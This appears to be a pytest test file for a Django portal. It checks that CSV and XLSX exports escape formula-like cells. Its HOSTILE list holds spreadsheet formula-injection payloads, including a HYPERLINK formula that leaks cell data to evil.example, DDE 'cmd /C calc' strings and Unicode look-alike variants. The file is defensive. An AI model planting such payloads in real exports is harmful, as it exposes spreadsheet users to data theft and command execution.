"""No export carries a live formula: portal.spreadsheet's escaping, and each download path opened the way
a user would (openpyxl for .xlsx, csv for .csv): the admin's import-export formats, the plan export, the
reviews' tracker. Plain text and numbers are written as they are."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import unicodedata
from decimal import Decimal
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from actions.models import Action
from indicators.models import Indicator, Value
from partnerships.admin_export import SAFE_FORMATS, SafeExportAdmin
from portal.spreadsheet import FORMULA_TRIGGERS, csv_bytes, escape_cell, is_formula_like, unescape_cell, xlsx_bytes
from reviews.models import Recommendation, Review
from tests.conftest import World, client_for, make_action

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "==1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u200b=1+1",  # a zero-width space ahead
    "\uff1d1+1",  # ＝ full-width equals
    "\uff0b1+1",  # ＋
    "\uff0d1+1",  # － full-width hyphen-minus
    "\uff20SUM(A1)",  # ＠
    "\u22121+1",  # − minus sign
    "\ufe621+1",  # ﹢ small plus
    "\ufe631+1",  # ﹣ small hyphen-minus
    "\ufe661+1",  # ﹦ small equals
    "\u207a1+1",  # ⁺ superscript plus
    "\u3000=1+1",  # an ideographic space ahead
]
PLAIN = ["Phase 2 - housing", "Barrier - funding", "£3500 venue & refreshments", "Ongoing", "'tis", "-", "", "1.1",
         "-5", "-1.5", "+3", "-1,234.50", "-5%", "– an en dash is text", "Q3 2024/25"]


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _starts_like_a_formula(text: str) -> bool:
    """What a spreadsheet opening the .csv would see: the cell's first significant character."""
    if text[:1] in ("\t", "\r"):
        return True
    for ch in text:
        if ch.isspace() or unicodedata.category(ch) == "Cf":
            continue
        return unicodedata.normalize("NFKC", ch)[:1] in FORMULA_TRIGGERS
    return False


def _assert_csv_safe(data: bytes) -> list[list[Any]]:
    rows = _csv_cells(data)
    for row in rows:
        for cell in row:
            assert not _starts_like_a_formula(cell) or re.fullmatch(r"[+-]?[\d.,]+%?|-", cell), repr(cell)
    return rows


def _assert_xlsx_safe(data: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(data)).active
    rows = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str) and is_formula_like(cell.value):
                assert cell.quotePrefix, (cell.coordinate, cell.value)
        rows.append([cell.value for cell in row])
    return rows


# The escaping itself


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_escaped_and_comes_back(text: str) -> None:
    assert is_formula_like(text)
    assert escape_cell(text) == "'" + text
    assert unescape_cell(escape_cell(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_and_numbers_are_left_as_they_are(text: str) -> None:
    assert not is_formula_like(text)
    assert escape_cell(text) == text
    assert unescape_cell(text) == text


@pytest.mark.parametrize("text", ["'=1+1", "''=1+1", "'\uff1d1"])
def test_text_opening_with_an_apostrophe_ahead_of_a_formula_round_trips(text: str) -> None:
    assert unescape_cell(escape_cell(text)) == text
    sheet_value = load_workbook(io.BytesIO(xlsx_bytes([[text]]))).active["A1"].value
    assert unescape_cell(sheet_value) == text


def test_writers_keep_numbers_numbers_and_text_text() -> None:
    row = [*HOSTILE, *PLAIN, 3, -2.5, Decimal("-19.50"), dt.date(2009, 4, 1), None]
    csv_row = _assert_csv_safe(csv_bytes([row]))[0]
    assert csv_row[len(HOSTILE):] == [*PLAIN, "3", "-2.5", "-19.50", "2009-04-01", ""]
    sheet_row = _assert_xlsx_safe(xlsx_bytes([row]))[0]
    assert sheet_row[:len(HOSTILE) + len(PLAIN)] == [unescape_cell(str(v)) for v in row[:len(HOSTILE)]] + [
        v or None for v in PLAIN]  # .xlsx text exactly as given, no apostrophe
    assert sheet_row[len(HOSTILE) + len(PLAIN):len(HOSTILE) + len(PLAIN) + 3] == [3, -2.5, -19.5]


# The admin's export (django-import-export)


@pytest.fixture
def boss(db: None) -> Client:
    return client_for(get_user_model().objects.create_superuser("boss", "boss@example.org", "pw"))


def _admin_export(client: Client, fmt: str) -> bytes:
    url = reverse("admin:indicators_value_export")
    page = client.get(url).content.decode()
    index = re.search(rf'<option value="(\d+)">{fmt}</option>', page).group(1)
    fields = {f"valueresource_{name}": "on" for name in
              ("partnership", "indicator", "area", "year_start", "quarter", "value", "note")}
    response = client.post(url, {"format": index, "resource": "0", **fields})
    assert response.status_code == 200, response.content[:500]
    assert "attachment" in response["Content-Disposition"]
    return response.content


def test_every_import_export_admin_offers_only_the_safe_formats() -> None:
    from django.contrib import admin
    from import_export.admin import ExportMixin

    for model, model_admin in admin.site._registry.items():
        if isinstance(model_admin, ExportMixin):
            assert isinstance(model_admin, SafeExportAdmin), model
            assert {type(f) for f in (c() for c in model_admin.get_export_formats())} <= set(SAFE_FORMATS), model  # type: ignore[attr-defined]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_admin_value_export_carries_no_formula(world: World, boss: Client, fmt: str) -> None:
    indicator = Indicator.objects.create(partnership=world.north, code="NI 32", name="Repeat", unit="number")
    for year, note in enumerate(HOSTILE, start=2000):
        Value.objects.create(indicator=indicator, year_start=year, value=Decimal("19.50"), note=note)
    data = _admin_export(boss, fmt)
    if fmt == "csv":
        rows = _assert_csv_safe(data)
        notes = [unescape_cell(r[rows[0].index("note")]) for r in rows[1:]]
    else:
        rows = _assert_xlsx_safe(data)
        notes = [str(r[rows[0].index("note")]) for r in rows[1:]]
        assert {r[rows[0].index("value")] for r in rows[1:]} == {19.5}  # a number, not text
        assert {r[rows[0].index("year_start")] for r in rows[1:]} <= set(range(2000, 2100))
    assert sorted(notes) == sorted(HOSTILE)


def test_admin_csv_export_imports_back_unchanged(world: World, boss: Client, settings, tmp_path) -> None:
    settings.MEDIA_ROOT = tmp_path
    indicator = Indicator.objects.create(partnership=world.north, code="NI 32", name="Repeat", unit="number")
    Value.objects.create(indicator=indicator, year_start=2009, value=Decimal(19), note="=HYPERLINK(\"x\")")
    data = _admin_export(boss, "csv")
    Value.objects.all().delete()
    url = reverse("admin:indicators_value_import")
    page = boss.get(url).content.decode()
    index = re.search(r'<option value="(\d+)">csv</option>', page).group(1)
    confirm = boss.post(url, {"format": index, "resource": "0",
                              "import_file": SimpleUploadedFile("values.csv", data, "text/csv")})
    hidden = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', confirm.content.decode()))
    assert boss.post(reverse("admin:indicators_value_process_import"), hidden).status_code == 302
    assert Value.objects.get().note == "=HYPERLINK(\"x\")"


# The portal's own downloads


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_plan_export_download_carries_no_formula(world: World, fmt: str) -> None:
    for i, text in enumerate(HOSTILE):
        make_action(world.plan, world.objective, f"9.{i}", description=text, comments=text, by_whom="Phase 2 - x")
    response = client_for(world.coordinator).get(reverse("actions:plan_export", args=["north", fmt]))
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    rows = _assert_csv_safe(response.content) if fmt == "csv" else _assert_xlsx_safe(response.content)
    column = rows[0].index("Action")
    assert sorted(unescape_cell(str(r[column])) for r in rows[1:] if r[0]) == sorted(
        [*HOSTILE, *(a.description for a in Action.objects.filter(plan=world.plan).exclude(ref__startswith="9."))])
    assert {r[rows[0].index("By whom")] for r in rows[1:] if str(r[rows[0].index("Ref")]).startswith("9.")} == {
        "Phase 2 - x"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_reviews_export_download_carries_no_formula(world: World, fmt: str) -> None:
    review = Review.objects.create(partnership=world.north, reference="DHR 2009/01", notified_on=dt.date(2009, 6, 1))
    for i, text in enumerate(HOSTILE):
        Recommendation.objects.create(review=review, ref=str(i + 1), text=text, action_agreed=text)
    response = client_for(world.admin).get(reverse("reviews:export", args=["north", fmt]))
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    rows = _assert_csv_safe(response.content) if fmt == "csv" else _assert_xlsx_safe(response.content)
    column = rows[0].index("Recommendation text")
    assert sorted(unescape_cell(str(r[column])) for r in rows[1:]) == sorted(HOSTILE)


def test_no_other_module_writes_a_spreadsheet_of_its_own() -> None:
    """A new .csv/.xlsx download goes through portal.spreadsheet (csv_bytes / xlsx_bytes), or its cells
    would not be escaped: no other module of the portal may write one directly."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|xlsxwriter|\.export\(\s*[\"'](csv|xlsx)")
    allowed = {Path("portal/spreadsheet.py")}
    skipped = {"tests", "bench", "node_modules", "staticfiles", "static"}
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root)
        if relative.parts[0].startswith(".") or relative.parts[0] in skipped or relative in allowed:
            continue
        if writers.search(path.read_text(encoding="utf-8", errors="replace")):
            offenders.append(str(relative))
    assert offenders == []
